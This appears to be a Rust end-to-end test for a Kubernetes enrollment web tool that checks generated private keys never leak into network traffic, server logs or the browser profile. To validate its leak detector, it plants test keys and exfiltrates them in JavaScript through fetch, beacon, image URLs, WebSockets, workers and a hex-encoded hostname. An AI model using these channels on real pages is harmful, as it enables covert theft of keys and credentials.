//! Every byte that a browser sent on whole journeys is searched for the key, in every form that it could have. The same
//! search finds the keys that the test itself sends away, from the same browser, in the same log.

use std::{
    fs,
    sync::{Arc, Mutex},
};

use getrandom::{SysRng, rand_core::UnwrapErr};
use hyper::{StatusCode, header};
use kube_enroll_core::{Algorithm, Cluster, ClusterFields, Kubeconfig, UserName};
use kube_enroll_e2e::{
    browser::{Browser, Kind, Options},
    deadline::{PATIENCE, eventually},
    http::{HttpServer, accept_websocket, answer},
    leak::{Findings, Profile, Search, Secret},
    page::{Page, Wish},
    serve::Serve,
};
use kube_enroll_keys::PrivateKey;
use serde_json::json;

use crate::whole::goes_the_whole_way;

#[tokio::test(flavor = "multi_thread")]
async fn and_a_search_that_finds_every_planted_key_finds_it_nowhere() {
    let serve = Serve::start().await;
    let browser = Browser::with(Options { records_network: true, ..Options::new(Kind::Chromium) }).await;
    let mut kept = Vec::new();
    for algorithm in [Algorithm::Rsa3072, Algorithm::EcdsaP256, Algorithm::Ed25519] {
        let wish = Wish::new(&format!("jane.{}", algorithm.name()), &["developers"]).with(algorithm);
        let file = goes_the_whole_way(&browser, &serve.url(), &wish).await;
        shows_the_file(&Page { browser: &browser }, &fs::read_to_string(&file).expect("the file is text")).await;
        kept.push((algorithm, Search::new(&Secret::of_kubeconfig(&file))));
    }

    let planted = plant(&browser).await;
    let remains = browser.quit().await;
    let log = remains.network_log();
    for (name, search) in &planted {
        let found = search.network_log(&log);
        let decoded = found.iter().any(|finding| finding.contains("sent by") || finding.contains("WebSocket"));
        assert!(decoded || (name.contains("host") && !found.is_empty()), "{name} was planted; found only {found:?}");
    }
    let profile = Profile::read(&remains.profile());
    for (algorithm, search) in kept {
        assert_eq!(search.network_log(&log), Findings::new(), "{algorithm:?} in the network");
        assert_eq!(search.bytes("the server's log", serve.log().as_bytes()), Findings::new(), "{algorithm:?}");
        assert_eq!(search.profile(&profile), Findings::new(), "{algorithm:?} in the browser's profile");
    }
}

/// Asks for the text with the key, as the one who cannot save a file does.
async fn shows_the_file(page: &Page<'_>, file: &str) {
    assert!(!page.browser.run("return document.body.innerHTML", vec![]).await.to_string().contains("PRIVATE KEY"));
    page.unfold("details:has(#preview)").await;
    page.click("#show-key").await;
    page.wait_until_shown("#kubeconfig-text").await;
    assert_eq!(page.text("#kubeconfig-text").await, file);
}

/// Sends away keys from a page that nobody guards: a number of each, or a whole kubeconfig, through every channel.
async fn plant(browser: &Browser) -> Vec<(&'static str, Search)> {
    let arrived = Arc::new(Mutex::new(Vec::new()));
    let record = Arc::clone(&arrived);
    let server = HttpServer::start(move |request| {
        record.lock().expect("no holder panics").push(request.uri().path().trim_start_matches('/').to_owned());
        async move {
            if request.headers().contains_key(header::UPGRADE) {
                return Ok(accept_websocket(request));
            }
            Ok(answer(StatusCode::OK, "text/html", "<!doctype html><title>nobody guards this page</title>"))
        }
    })
    .await;
    browser.open(&server.url()).await;
    let fields =
        ClusterFields { name: "dev".into(), server: "https://k.example.com".into(), ..ClusterFields::default() };
    let cluster = Cluster::parse(fields).expect("a usable cluster");
    let user = UserName::parse("jane").expect("a good name");
    let mut planted = Vec::new();
    for (at, (name, send)) in PLANTS.iter().enumerate() {
        // A key of its own, so that each channel has to be found for itself.
        let algorithm = if name.ends_with("RSA") { Algorithm::Rsa2048 } else { Algorithm::EcdsaP256 };
        let key = PrivateKey::generate(algorithm, &mut UnwrapErr(SysRng)).expect("randomness makes a key");
        let pem = key.to_pkcs8_pem().expect("a new key can be written");
        let kubeconfig = Kubeconfig { cluster: &cluster, user: &user, namespace: None, certificate_pem: "" };
        let secret = Secret::of_pem(&pem);
        let url = format!("{}plant-{at}", server.url());
        browser
            .run_async(
                &format!("{PLANTER}\n{send}"),
                vec![json!(url), json!(secret.number()), json!(*kubeconfig.to_yaml(&pem))],
            )
            .await;
        if !name.contains("host") {
            eventually(PATIENCE, name, || async {
                let arrived = arrived.lock().expect("no holder panics");
                if arrived.contains(&format!("plant-{at}")) { Ok(()) } else { Err(format!("{arrived:?}")) }
            })
            .await;
        }
        planted.push((*name, Search::new(&secret)));
    }
    planted
}

const PLANTER: &str = r#"
const [url, number, text] = arguments;
const bytes = Uint8Array.from(number);
const hex = [...bytes].map(byte => byte.toString(16).padStart(2, "0")).join("");
const base64url = btoa(String.fromCharCode(...bytes)).replace(/\+/g, "-").replace(/\//g, "_");
const post = body => fetch(url, { method: "POST", body });
const compress = format => new Response(new Blob([text]).stream().pipeThrough(new CompressionStream(format))).blob();
const image = query => new Promise(resolve => { const it = new Image(); it.onload = it.onerror = resolve; it.src = url + "?" + query; });
const socket = message => new Promise((resolve, reject) => {
    const it = new WebSocket(url.replace("http", "ws"));
    it.onopen = () => { it.send(message); it.close(); };
    it.onclose = resolve;
    it.onerror = reject;
});
const worker = (body, type = "") => new Promise((resolve, reject) => {
    const source = `onmessage = ({ data: [url, body] }) => {
        if (typeof body === "string" && body.startsWith("ws:")) {
            const it = new WebSocket(url.replace("http", "ws"));
            it.onopen = () => { it.send(body.slice(3)); it.close(); };
            it.onclose = () => postMessage(1);
        } else {
            fetch(url, { method: "POST", body }).then(() => postMessage(1));
        }
    }`;
    const it = new Worker(URL.createObjectURL(new Blob([source])));
    it.onmessage = resolve;
    it.onerror = reject;
    it.postMessage([url, body]);
});
"#;

const PLANTS: [(&str, &str); 19] = [
    ("a number by fetch, raw", "await post(bytes)"),
    ("a number by fetch, reversed", "await post(bytes.reverse())"),
    ("a number by fetch, as JSON", "await post(JSON.stringify([...bytes]))"),
    ("a kubeconfig by fetch", "await post(text)"),
    ("a kubeconfig by fetch, RSA", "await post(text)"),
    ("a kubeconfig by fetch, as JSON", "await post(JSON.stringify({ text }))"),
    ("a kubeconfig by fetch, gzip", "await post(await compress('gzip'))"),
    ("a kubeconfig by fetch, deflate", "await post(await compress('deflate'))"),
    ("a kubeconfig by fetch, raw deflate", "await post(await compress('deflate-raw'))"),
    ("a number by beacon, decimal", "navigator.sendBeacon(url, BigInt('0x' + hex).toString())"),
    ("a kubeconfig by beacon", "navigator.sendBeacon(url, text)"),
    ("a number by image, base64url", "await image(base64url)"),
    ("a kubeconfig by image, percent-encoded", "await image(encodeURIComponent(text))"),
    ("a number by WebSocket, raw", "await socket(bytes)"),
    ("a kubeconfig by WebSocket", "await socket(text)"),
    ("a number by a worker's fetch, hex", "await worker(hex)"),
    ("a kubeconfig by a worker's fetch, base64", "await worker(btoa(text))"),
    ("a kubeconfig by a worker's WebSocket", "await worker('ws:' + text)"),
    ("a number as the name of a host, hex", "await fetch(`http://${hex.slice(0, 60)}.invalid/`).catch(() => 0)"),
];
